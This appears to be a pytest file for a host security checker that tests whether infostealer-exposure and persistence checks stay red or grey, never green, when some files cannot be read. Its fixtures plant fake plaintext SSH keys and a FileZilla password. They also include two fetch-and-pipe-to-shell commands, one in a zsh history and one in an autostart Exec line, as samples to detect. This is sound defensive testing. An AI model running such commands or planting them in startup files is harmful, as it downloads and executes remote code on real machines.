"""A file that could not be read lowers coverage; it never turns an item green.

Tests run as root in CI, where permissions are moot: an unreadable entry is a
symbolic link that loops on itself (ELOOP for everyone), or a read refused by a
wrapped host (AccessDenied) where a permission error is the point.
"""

from __future__ import annotations

import base64
from datetime import UTC, datetime

from clinicguard.checks import CheckContext
from clinicguard.checks.infostealer import exposure, infostealer
from clinicguard.core.facts import BrowserPasswords, BrowserProfile
from clinicguard.core.model import Reason, Status
from clinicguard.host import AccessDenied, UserInfo
from clinicguard.infostealer.exposure import collect_exposure
from tests.infostealer.test_infostealer_checks import openssh_key
from tests.support.hostile_support import unreadable
from tests.support.infostealer_fixtures import TreeHost, put, rules_hit, scan

CTX = CheckContext(platform="linux", now=datetime(2026, 11, 28, tzinfo=UTC), user=UserInfo(name="alice"))
HOME = "/home/alice"
NO_LOGINS = BrowserPasswords(profiles=(BrowserProfile(browser="firefox", profile="default", saved_logins=0),))


class DeniedHost(TreeHost):
    """A tree where some files exist but the operating system refuses to read them."""

    def __init__(self, root, platform, denied: tuple[str, ...]) -> None:  # type: ignore[no-untyped-def]
        super().__init__(root, platform)
        self.denied = denied

    def read_bytes(self, path: str, limit: int = 4 * 1024 * 1024) -> bytes:
        if path in self.denied:
            raise AccessDenied(path)
        return super().read_bytes(path, limit)


def judge_exposure(host):  # type: ignore[no-untyped-def]
    return exposure(CTX, collect_exposure(host), browser_passwords=NO_LOGINS)


def test_unencrypted_key_stays_red_next_to_a_symlink_loop(tmp_path):
    put(tmp_path, f"{HOME}/.ssh/id_ed25519", openssh_key(b"none"))
    unreadable(tmp_path / "home/alice/.ssh/id_loop")
    v = judge_exposure(TreeHost(tmp_path, "linux"))
    assert (v.status, v.key) == (Status.FAIL, "plaintext")


def test_unencrypted_key_stays_red_next_to_a_denied_file(tmp_path):
    put(tmp_path, f"{HOME}/.ssh/id_ed25519", openssh_key(b"none"))
    put(tmp_path, f"{HOME}/.ssh/id_backup", openssh_key(b"none"))
    v = judge_exposure(DeniedHost(tmp_path, "linux", denied=(f"{HOME}/.ssh/id_backup",)))
    assert (v.status, v.key) == (Status.FAIL, "plaintext")


def test_protected_key_next_to_an_unreadable_file_is_grey_not_green(tmp_path):
    put(tmp_path, f"{HOME}/.ssh/id_ed25519", openssh_key(b"aes256-ctr"))
    unreadable(tmp_path / "home/alice/.ssh/id_other")
    v = judge_exposure(TreeHost(tmp_path, "linux"))
    assert v.status is Status.UNKNOWN and v.reason is Reason.NOT_READABLE
    assert v.key == "exposure_partial" and "ssh_keys" in v.detail


def test_denied_key_is_grey_needing_rights(tmp_path):
    put(tmp_path, f"{HOME}/.ssh/id_ed25519", openssh_key(b"aes256-ctr"))
    put(tmp_path, f"{HOME}/.ssh/id_team", openssh_key(b"none"))
    v = judge_exposure(DeniedHost(tmp_path, "linux", denied=(f"{HOME}/.ssh/id_team",)))
    assert (v.status, v.reason) == (Status.UNKNOWN, Reason.NEEDS_ADMIN)


def test_agent_socket_or_fifo_in_ssh_folder_costs_no_coverage(tmp_path):
    import os

    put(tmp_path, f"{HOME}/.ssh/id_ed25519", openssh_key(b"aes256-ctr"))
    os.mkfifo(tmp_path / "home/alice/.ssh/agent.fifo")
    v = judge_exposure(TreeHost(tmp_path, "linux"))
    assert (v.status, v.key) == (Status.PASS, "low")


def test_filezilla_plain_password_stays_red_next_to_an_unreadable_file(tmp_path):
    secret = base64.b64encode(b"s3cret").decode()
    put(
        tmp_path,
        f"{HOME}/.config/filezilla/recentservers.xml",
        f'<RecentServers><Server><Pass encoding="base64">{secret}</Pass></Server></RecentServers>',
    )
    unreadable(tmp_path / "home/alice/.config/filezilla/sitemanager.xml")
    v = judge_exposure(TreeHost(tmp_path, "linux"))
    assert (v.status, v.key) == (Status.FAIL, "plaintext")


def test_unreadable_filezilla_file_alone_is_grey(tmp_path):
    unreadable(tmp_path / "home/alice/.config/filezilla/sitemanager.xml")
    v = judge_exposure(TreeHost(tmp_path, "linux"))
    assert v.status is Status.UNKNOWN and "filezilla" in v.detail


def test_curl_pipe_in_zsh_history_counts_when_bash_history_is_unreadable(tmp_path):
    unreadable(tmp_path / "home/alice/.bash_history")
    put(tmp_path, f"{HOME}/.zsh_history", ": 1700000000:0;curl -fsSL http://evil.example/i | sh\n")
    signs = scan(TreeHost(tmp_path, "linux"), time_budget=5)
    assert "shell_curl_pipe" in rules_hit(signs)
    assert ("shell_history", "read_error") in signs.not_looked_at
    assert infostealer(CTX, signs).status is Status.WARN


def test_denied_history_alone_is_grey_not_clean(tmp_path):
    put(tmp_path, f"{HOME}/.bash_history", "ls\n")
    signs = scan(DeniedHost(tmp_path, "linux", denied=(f"{HOME}/.bash_history",)), time_budget=5)
    v = infostealer(CTX, signs)
    assert v.status is Status.UNKNOWN and "shell_history" in v.detail


def test_unreadable_autostart_file_keeps_hits_of_the_others(tmp_path):
    unreadable(tmp_path / "home/alice/.config/autostart/a.desktop")
    put(tmp_path, f"{HOME}/.config/autostart/b.desktop", "[Desktop Entry]\nExec=sh -c 'curl http://1.2.3.4/x | sh'\n")
    signs = scan(TreeHost(tmp_path, "linux"), time_budget=5)
    assert ("xdg_autostart", "read_error") in signs.not_looked_at
    assert signs.hits, "the readable autostart entry still counts"


def test_unlistable_documents_subfolder_keeps_exposure_from_green(tmp_path, monkeypatch):
    import os

    put(tmp_path, f"{HOME}/Documents/planning.odt")
    put(tmp_path, f"{HOME}/Documents/private/x.txt")
    blocked = str(tmp_path / "home/alice/Documents/private")
    real_scandir = os.scandir

    def scandir(path):  # type: ignore[no-untyped-def]
        if os.fspath(path) == blocked:
            raise PermissionError(13, "Permission denied", blocked)  # root reads everything: refuse it here
        return real_scandir(path)

    monkeypatch.setattr(os, "scandir", scandir)
    v = judge_exposure(TreeHost(tmp_path, "linux"))
    assert v.status is Status.UNKNOWN and "password_files" in v.detail
